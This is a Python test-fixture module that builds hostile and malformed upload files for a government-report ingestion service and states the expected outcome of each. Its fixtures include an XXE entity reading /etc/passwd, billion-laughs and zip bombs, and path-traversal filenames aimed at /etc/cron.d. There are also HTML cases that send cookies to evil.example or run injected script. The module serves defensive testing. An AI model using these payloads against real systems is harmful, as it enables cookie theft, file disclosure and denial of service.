"""Hostile and malformed upload files, generated on demand (nothing binary is committed).

Every case says what must become of it: the final status of its upload row, the error code
when it fails, whether a report is stored, and for a .zip what its children become. The
mutated reports start from the shared seed (``/work/shared/seed-report.txt``) and the shared
corpus, read in place and never copied into the repository.

    from tests.reliability.hostile import CASES, report_variant
    case = CASES["truncated-docx"]
    case.filename, case.data()          # bytes built on first use, then cached

``report_variant(n, fmt)`` is also what ``bench/bench_load.py`` uploads: report ``n`` has its
own agency name and its own numbers, so every file is distinct.
"""

from __future__ import annotations

import base64
import dataclasses
import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache

from tests.paths import CORPUS, SEED

RAW = CORPUS / "raw"
_CN_DIGITS = "零一二三四五六七八九"


# --------------------------------------------------------------------------- valid reports, mutated


@cache
def seed_report():
    """The seed parsed once: the base every generated report is rendered from."""
    from ingest.parsing import parse

    return parse(SEED.read_bytes(), SEED.name)


def _cn_number(n: int) -> str:
    # Agency names cannot hold ASCII digits (the title pattern stops at the year).
    return "".join(_CN_DIGITS[int(d)] for d in str(n))


def report_variant(n: int, fmt: str = "txt", *, year: int = 2020):
    """(file name, bytes) of a valid report, unique for each ``n``: its own agency and numbers.

    The agency (``可靠性测试县<n>号镇``) resolves to no known division, so storing it creates
    no organisation and never changes another report's "current" flag.
    """
    return f"variant-{n}.{'txt' if fmt == 'txt' else fmt}", render_variant(variant(n, year=year), fmt)


def variant(n: int, *, year: int = 2020, **cell_values):
    """A ParsedReport like the seed with a unique agency and numbers (identities kept)."""
    from ingest.parsing.model import Cell

    base = seed_report()
    agency = f"可靠性测试县{_cn_number(n)}号镇"
    rng = random.Random(n)
    cells = dict(base.cells)
    # §二 decision counts take part in no identity: changing them keeps the report valid.
    for key in cells:
        if key.startswith("s2.") and key.endswith((".decisions", ".made", ".published")):
            v = rng.randint(0, 999)
            cells[key] = Cell(v=v, raw=str(v), st="ok")
    for key, v in cell_values.items():
        cells[key] = Cell(v=v, raw=str(v), st="ok")
    return dataclasses.replace(
        base, agency=agency, report_year=year, title=f"{agency}{year}年政府信息公开工作年度报告", cells=cells
    )


def render_variant(report, fmt: str) -> bytes:
    from ingest.parsing.render import render

    return render(report, fmt)


def variant_text(n: int) -> str:
    return render_variant(variant(n), "txt").decode("utf-8")


def variant_html(n: int) -> str:
    return render_variant(variant(n), "html").decode("utf-8")


# --------------------------------------------------------------------------- building blocks


def _png(width: int = 400, height: int = 300) -> bytes:
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(img)
    for y in range(20, height - 20, 18):  # lines of "text" a scanner would see
        draw.rectangle([30, y, width - 30 - (y * 7) % 120, y + 8], fill="black")
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


def _jpeg() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.open(io.BytesIO(_png())).convert("RGB").save(buf, "JPEG")
    return buf.getvalue()


def _scanned_pdf(pages: int = 2) -> bytes:
    """A PDF of page images only, as a scanner makes it: no text layer at all."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    image = ImageReader(io.BytesIO(_png(1240, 1754)))
    for _ in range(pages):
        c.drawImage(image, 0, 0, width=A4[0], height=A4[1])
        c.showPage()
    c.save()
    return buf.getvalue()


def _encrypted_pdf() -> bytes:
    """A real report PDF that needs a password to open."""
    from reportlab.lib import pdfencrypt
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buf = io.BytesIO()
    enc = pdfencrypt.StandardEncryption("user-secret", "owner-secret", canPrint=0, strength=128)
    c = canvas.Canvas(buf, pagesize=A4, encrypt=enc)
    c.setFont("STSong-Light", 12)
    y = A4[1] - 60
    for line in variant_text(9001).splitlines()[:60]:
        if line.strip():
            c.drawString(50, y, line[:40])
            y -= 14
            if y < 60:
                c.showPage()
                c.setFont("STSong-Light", 12)
                y = A4[1] - 60
    c.save()
    return buf.getvalue()


def _zip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def _docx_with_body(document_xml: bytes) -> bytes:
    return _zip(
        [
            (
                "[Content_Types].xml",
                b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            ),
            ("word/document.xml", document_xml),
        ]
    )


_W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_xxe() -> bytes:
    body = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f"<w:document {_W_NS}><w:body><w:p><w:r><w:t>&x;政府信息公开工作年度报告</w:t></w:r></w:p>"
        "</w:body></w:document>"
    )
    return _docx_with_body(body.encode())


def _docx_billion_laughs() -> bytes:
    ents = '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    body = (
        f'<?xml version="1.0"?><!DOCTYPE d [{ents}]>'
        f"<w:document {_W_NS}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _docx_with_body(body.encode())


def _bomb_single() -> bytes:
    """One 64 MB entry of zeros: over the per-file limit, refused before anything is unpacked."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("报告.txt", "w") as fh:
        chunk = b"\0" * (1024 * 1024)
        for _ in range(64):
            fh.write(chunk)
    return buf.getvalue()


def _bomb_ratio() -> bytes:
    """Twenty 4 MB entries of zeros: each under the size limit, but compressed ~1000:1."""
    zeros = b"\0" * (4 * 1024 * 1024)
    return _zip([(f"r{i}.txt", zeros) for i in range(20)])


def _bomb_lying_header() -> bytes:
    """An entry that inflates to 32 MB while its headers claim 1 KB: reading must stop at the claim."""
    real = b"\0" * (32 * 1024 * 1024)
    data = bytearray(_zip([("liar.txt", real)]))
    claimed = 1024
    # local file header: uncompressed size at offset 22
    assert data[:4] == b"PK\x03\x04"
    struct.pack_into("<I", data, 22, claimed)
    # central directory header: uncompressed size at offset 24
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, claimed)
    return bytes(data)


def _zip_encrypted_entry() -> bytes:
    """A zip whose only entry is flagged as encrypted (traditional PKWARE encryption)."""
    data = bytearray(_zip([("secret.txt", variant_text(9002).encode())]))
    struct.pack_into("<H", data, 6, struct.unpack_from("<H", data, 6)[0] | 0x1)
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<H", data, cd + 8, struct.unpack_from("<H", data, cd + 8)[0] | 0x1)
    return bytes(data)


def _zip_many(n: int) -> bytes:
    """``n`` copies of one report: the first is parsed, every other one is a duplicate of it."""
    text = variant_text(9003).encode()
    return _zip([(f"第{i:04d}份.txt", text) for i in range(n)])


def _zip_too_many() -> bytes:
    return _zip([(f"f{i}.txt", b"x") for i in range(2001)], method=zipfile.ZIP_STORED)


TRAVERSAL_NAMES = (
    "../../../../../tmp/ttd-evil-1.txt",
    "/etc/ttd-evil-2.txt",
    "..\\..\\..\\ttd-evil-3.txt",
    "ok/../../../ttd-evil-4.txt",
)


def _zip_traversal() -> bytes:
    return _zip([(name, variant_text(9010 + i).encode()) for i, name in enumerate(TRAVERSAL_NAMES)])


def _zip_nested() -> bytes:
    inner = _zip([("inner.txt", variant_text(9020).encode())])
    return _zip([("outer.txt", variant_text(9021).encode()), ("inner.zip", inner)])


def _zip_junk_only() -> bytes:
    return _zip([("__MACOSX/._a.txt", b"junk"), (".DS_Store", b"\0\0\0\1Bud1"), ("dir/", b"")])


def _html_with_scripts(n: int) -> bytes:
    html = variant_html(n)
    evil = "<script>document.location='http://evil.example/?'+document.cookie</script>"
    html = html.replace("<head>", f"<head>{evil}<script src='http://evil.example/x.js'></script>", 1)
    html = html.replace(
        "<body>", f"<body onload=\"alert('x')\">{evil}<iframe src='http://evil.example'></iframe>", 1
    )
    html = html.replace("</td>", f"{evil}</td>", 40)
    html = html.replace("</p>", "<img src=x onerror=alert(1)></p>", 20)
    return html.encode()


def _html_huge_image(n: int) -> bytes:
    rng = random.Random(n)
    blob = base64.b64encode(rng.randbytes(6 * 1024 * 1024)).decode()
    html = variant_html(n)
    img = f'<p><img alt="公章" src="data:image/png;base64,{blob}"></p>'
    return html.replace("</h1>", "</h1>" + img, 1).replace("</body>", img + "</body>", 1).encode()


def _html_deep(depth: int = 60_000) -> bytes:
    return (
        "<html><body>" + "<div>" * depth + "政府信息公开工作年度报告" + "</div>" * depth + "</body></html>"
    ).encode()


def _html_huge_spans() -> bytes:
    rows = "".join(
        f'<tr><td rowspan="99999" colspan="99999">{i}</td><td colspan="-5">x</td></tr>' for i in range(300)
    )
    return (
        f"<html><body><h1>某镇2020年政府信息公开工作年度报告</h1><table>{rows}</table></body></html>".encode()
    )


def _html_missing_columns(n: int) -> bytes:
    """Every data row of every table loses its last two cells."""
    import re

    html = variant_html(n)
    return re.sub(r"(<td[^>]*>[^<]*</td>\s*){2}</tr>", "</tr>", html).encode()


def _html_extra_columns(n: int) -> bytes:
    return variant_html(n).replace("</tr>", "<td>99</td><td>多余</td></tr>").encode()


def _text_missing_sections(n: int) -> bytes:
    """Only the title and the prose of §一: no table at all."""
    text = variant_text(n)
    return text.split("二、主动公开政府信息情况")[0].encode()


def _text_only_s2(n: int) -> bytes:
    text = variant_text(n)
    return text.split("三、收到和处理政府信息公开申请情况")[0].encode()


def _text_absurd(n: int) -> bytes:
    """Counts no database column can hold (25 and 20 digits)."""
    report = variant(
        n, **{"s2.art20_5.licensing.decisions": 10**25, "s3.received_new.total": 98765432109876543210}
    )
    return render_variant(report, "txt")


def _text_odd_numbers(n: int) -> bytes:
    """Numbers no township reports, yet storable: negative, fractional and huge counts, full-width digits."""
    report = variant(
        n, **{"s2.art20_5.licensing.decisions": 2_000_000_000, "s2.art20_6.penalty.decisions": 123456}
    )
    text = render_variant(report, "txt").decode()
    text = text.replace("\n0\n", "\n-7\n", 3).replace("\n0\n", "\n1.5\n", 3).replace("\n0\n", "\n１２\n", 3)
    return text.encode()


def _text_endless_digits(n: int) -> bytes:
    text = render_variant(variant(n), "txt").decode()
    return (
        text.replace("\n0\n", "\n" + "9" * 5000 + "\n", 1)
        .replace("\n0\n", "\n" + "1" * 400 + ".5\n", 1)
        .encode()
    )


def _text_not_a_report() -> bytes:
    return (
        "关于做好2024年春节期间安全生产工作的通知\n\n各村（居）委会：\n" + "请认真做好各项工作。\n" * 200
    ).encode()


def _text_long_line() -> bytes:
    rng = random.Random(7)
    return "".join(chr(rng.randint(0x4E00, 0x9FA5)) for _ in range(1_000_000)).encode()


def _random(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _random_printable(n: int) -> bytes:
    rng = random.Random(11)
    return "".join(rng.choice("abcdefghij 0123456789,.;\n") for _ in range(n)).encode()


def _truncated(data: bytes, keep: float) -> bytes:
    return data[: int(len(data) * keep)]


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Hostile:
    key: str
    filename: str
    build: Callable[[], bytes]
    status: str  # final status of the upload row: done | failed | duplicate
    code: str = ""  # error_code when failed
    report: bool = False  # a Report row is stored for it
    children: dict[str, int] = field(default_factory=dict)  # for zips: child status -> count
    child_codes: dict[str, int] = field(default_factory=dict)  # for zips: child error_code -> count
    before: tuple[str, ...] = ()  # keys of cases uploaded first (duplicates)
    why: str = ""

    def data(self) -> bytes:
        return _built(self.key)


def _done(key, filename, build, why="", **kw) -> Hostile:
    return Hostile(key, filename, build, "done", report=True, why=why, **kw)


def _failed(key, filename, build, code, why="") -> Hostile:
    return Hostile(key, filename, build, "failed", code=code, why=why)


def _zipped(key, filename, build, children, child_codes=None, why="") -> Hostile:
    return Hostile(key, filename, build, "done", children=children, child_codes=child_codes or {}, why=why)


_LIST: list[Hostile] = [
    # ---- empty
    _failed("empty", "empty.txt", lambda: b"", "empty"),
    _failed("blank", "blank.txt", lambda: b" \r\n\t \x00\n\n", "empty"),
    _failed("bom-only", "bom.html", lambda: b"\xef\xbb\xbf", "empty"),
    _failed("empty-pdf", "empty.pdf", lambda: b"\n", "empty"),
    # ---- truncated or damaged Word / PDF
    _failed(
        "truncated-docx",
        "truncated.docx",
        lambda: _truncated(render_variant(variant(100), "docx"), 0.5),
        "corrupt",
    ),
    _failed(
        "truncated-corpus-docx",
        "020-cut.docx",
        lambda: _truncated((RAW / "020.docx").read_bytes(), 0.7),
        "corrupt",
    ),
    _failed("docx-bad-xml", "bad-xml.docx", lambda: _docx_with_body(b"<w:document><w:body><w:p>"), "corrupt"),
    _failed(
        "docx-no-body", "no-body.docx", lambda: _docx_with_body(f"<w:document {_W_NS}/>".encode()), "corrupt"
    ),
    _failed("docx-xxe", "xxe.docx", _docx_xxe, "no_report", "an external entity must never be read"),
    _failed(
        "docx-billion-laughs", "laughs.docx", _docx_billion_laughs, "corrupt", "entities are not expanded"
    ),
    _failed(
        "truncated-pdf",
        "truncated.pdf",
        lambda: _truncated(render_variant(variant(101), "pdf"), 0.5),
        "corrupt",
    ),
    _failed(
        "truncated-corpus-pdf",
        "020-cut.pdf",
        lambda: _truncated((RAW / "020.pdf").read_bytes(), 0.8),
        "corrupt",
    ),
    _failed("pdf-header-only", "header.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "corrupt"),
    _failed(
        "pdf-garbage-body",
        "garbage.pdf",
        lambda: b"%PDF-1.4\n" + _random(20_000, 3) + b"\n%%EOF\n",
        "corrupt",
    ),
    _failed("encrypted-pdf", "encrypted.pdf", _encrypted_pdf, "encrypted"),
    _failed("scanned-pdf", "scanned.pdf", _scanned_pdf, "scanned_pdf"),
    _failed(
        "legacy-doc-garbage",
        "old.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _random(30_000, 4),
        "no_report",
        "LibreOffice cannot convert it; the conversion is bounded",
    ),
    # ---- wrong extensions: judged by content
    _done("docx-named-pdf", "report.pdf", lambda: render_variant(variant(102), "docx")),
    _done("pdf-named-docx", "report.docx", lambda: render_variant(variant(103), "pdf")),
    _done("html-named-txt", "report.txt", lambda: render_variant(variant(104), "html")),
    _done("text-named-docx", "report.docx", lambda: render_variant(variant(105), "txt")),
    _done("text-named-png", "report.png", lambda: render_variant(variant(106), "txt")),
    _failed("png-named-txt", "report.txt", _png, "unsupported_format"),
    _failed("jpeg-named-pdf", "report.pdf", _jpeg, "unsupported_format"),
    _failed(
        "elf-named-html",
        "report.html",
        lambda: b"\x7fELF\x02\x01\x01\x00" + _random(8000, 5),
        "unsupported_format",
    ),
    # ---- random bytes
    _failed("random-bin", "random.bin", lambda: _random(64 * 1024, 1), "unsupported_format"),
    _failed("random-docx", "random.docx", lambda: _random(64 * 1024, 2), "unsupported_format"),
    _failed("random-printable", "noise.txt", lambda: _random_printable(200_000), "no_report"),
    # ---- encodings
    _done("gbk-text", "gbk.txt", lambda: variant_text(110).replace("\xa0", "\u3000").encode("gbk")),
    _done(
        "gb18030-html-meta",
        "gb.html",
        lambda: variant_html(111).replace("<head>", '<head><meta charset="gb2312">', 1).encode("gb18030"),
    ),
    _done("utf16le-bom", "utf16.txt", lambda: b"\xff\xfe" + variant_text(112).encode("utf-16-le")),
    _done("utf16be-bom", "utf16be.txt", lambda: b"\xfe\xff" + variant_text(113).encode("utf-16-be")),
    _done("utf16be-no-bom", "utf16be-nobom.txt", lambda: variant_text(114).encode("utf-16-be")),
    # ---- hostile HTML
    _done("html-scripts", "scripts.html", lambda: _html_with_scripts(120)),
    _done("html-huge-inline-image", "image.html", lambda: _html_huge_image(121)),
    _failed("html-deep-nesting", "deep.html", _html_deep, "no_report"),
    _failed("html-huge-spans", "spans.html", _html_huge_spans, "no_report"),
    # ---- report content
    _failed("missing-sections", "missing.txt", lambda: _text_missing_sections(130), "no_report"),
    _done("only-section-two", "only-s2.txt", lambda: _text_only_s2(131)),
    _done("missing-columns", "missing-cols.html", lambda: _html_missing_columns(132)),
    _done("extra-columns", "extra-cols.html", lambda: _html_extra_columns(133)),
    _failed("absurd-numbers", "absurd.txt", lambda: _text_absurd(134), "out_of_range"),
    _done("odd-numbers", "odd.txt", lambda: _text_odd_numbers(136)),
    _done("endless-digits", "digits.txt", lambda: _text_endless_digits(135)),
    _failed("not-a-report", "notice.txt", _text_not_a_report, "no_report"),
    _failed("one-long-line", "line.txt", _text_long_line, "no_report"),
    # ---- names
    _done("traversal-name", "../../../../etc/cron.d/ttd-evil.txt", lambda: variant_text(140).encode()),
    _done("absurd-name", "报" * 600 + "\x00\x1b[31m.txt", lambda: variant_text(141).encode()),
    # ---- duplicates
    Hostile(
        "duplicate", "again.txt", lambda: variant_text(150).encode(), "duplicate", before=("duplicate-first",)
    ),
    # ---- archives
    _failed("zip-corrupt", "broken.zip", lambda: b"PK\x03\x04" + _random(5000, 6), "corrupt"),
    _failed("zip-bomb-big-entry", "bomb.zip", _bomb_single, "zip_limits"),
    _failed("zip-bomb-ratio", "bomb-ratio.zip", _bomb_ratio, "zip_limits"),
    _zipped("zip-bomb-lying-header", "liar.zip", _bomb_lying_header, {"failed": 1}, {"corrupt": 1}),
    _failed("zip-too-many", "many.zip", _zip_too_many, "zip_limits"),
    _zipped("zip-1000", "thousand.zip", lambda: _zip_many(1000), {"done": 1, "duplicate": 999}),
    _zipped("zip-nested", "nested.zip", _zip_nested, {"done": 1, "failed": 1}, {"nested_zip": 1}),
    _zipped("zip-traversal", "traversal.zip", _zip_traversal, {"done": len(TRAVERSAL_NAMES)}),
    _zipped("zip-encrypted-entry", "encrypted.zip", _zip_encrypted_entry, {"failed": 1}, {"corrupt": 1}),
    _failed("zip-junk-only", "junk.zip", _zip_junk_only, "empty_zip"),
    _zipped(
        "zip-named-docx", "report.docx", lambda: _zip([("in.txt", variant_text(160).encode())]), {"done": 1}
    ),
]

# Uploaded before the cases that name them in ``before``; not cases of their own.
_PRELUDE = {"duplicate-first": ("first.txt", lambda: variant_text(150).encode())}

CASES: dict[str, Hostile] = {c.key: c for c in _LIST}
assert len(CASES) == len(_LIST), "duplicate case keys"


@cache
def _built(key: str) -> bytes:
    if key in _PRELUDE:
        return _PRELUDE[key][1]()
    return CASES[key].build()


def prelude(key: str) -> tuple[str, bytes]:
    return _PRELUDE[key][0], _built(key)


def expected_reports(case: Hostile) -> int:
    """How many Report rows the case adds."""
    return int(case.report) + case.children.get("done", 0)


def big_pdf_report(n: int, pages: int = 100) -> bytes:
    """A valid report followed by ``pages`` dense pages of prose: takes the parser several seconds.

    The prose page is drawn once and imported ``pages`` times, so the file builds in under a second.
    It is set in Helvetica, one of the fonts every PDF reader has built in: a CJK font that is not
    embedded makes PDFium load a substitute font file for every page, and the parse time would then
    depend on which fonts the machine has installed.
    """
    import pypdfium2 as pdfium
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    rng = random.Random(n)
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    c.setFont("Helvetica", 7)
    for i in range(88):
        words = (
            ("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(2, 9))))
            for _ in range(40)
        )
        c.drawString(40, A4[1] - 40 - i * 8.8, " ".join(words)[:140])
    c.showPage()
    c.save()
    doc = pdfium.PdfDocument(render_variant(variant(n), "pdf"))
    doc.import_pages(pdfium.PdfDocument(buf.getvalue()), [0] * pages)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()
